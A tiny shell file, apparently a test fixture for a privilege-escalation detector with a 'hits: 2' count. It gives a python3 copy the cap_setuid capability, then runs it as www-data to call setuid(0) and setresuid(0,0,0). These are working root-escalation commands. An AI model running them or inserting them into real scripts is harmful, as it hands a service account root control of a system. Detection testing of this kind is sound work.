# SPDX-License-Identifier: Apache-2.0
# hits: 2
cp "$(readlink -f /usr/bin/python3)" /usr/local/bin/tool
setcap cap_setuid+ep /usr/local/bin/tool
as www-data /usr/local/bin/tool -c 'import os; os.setuid(0)'
as www-data /usr/local/bin/tool -c 'import os; os.setresuid(0, 0, 0)'
